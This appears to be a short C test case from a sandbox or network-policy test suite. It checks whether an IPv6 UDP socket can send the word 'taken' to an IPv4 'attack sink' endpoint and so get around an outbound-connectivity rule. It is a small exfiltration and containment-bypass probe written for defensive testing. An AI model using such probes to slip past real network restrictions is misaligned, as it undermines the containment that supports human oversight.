// class: network
// rule: outbound_connectivity
// success: a C program sends from an IPv6 socket to an IPv4 address, which Linux permits
// proof: udp
#include "attack.h"

int main(void)
{
    struct sockaddr_in sink = endpoint("ATTACK_SINK_UDP");
    struct iovec piece = {"taken", 5};
    struct msghdr message = {
        .msg_name = &sink, .msg_namelen = sizeof sink, .msg_iov = &piece, .msg_iovlen = 1};
    if (sendmsg(socket(AF_INET6, SOCK_DGRAM, 0), &message, 0) != 5) return stopped("sendmsg");
    return reached();
}
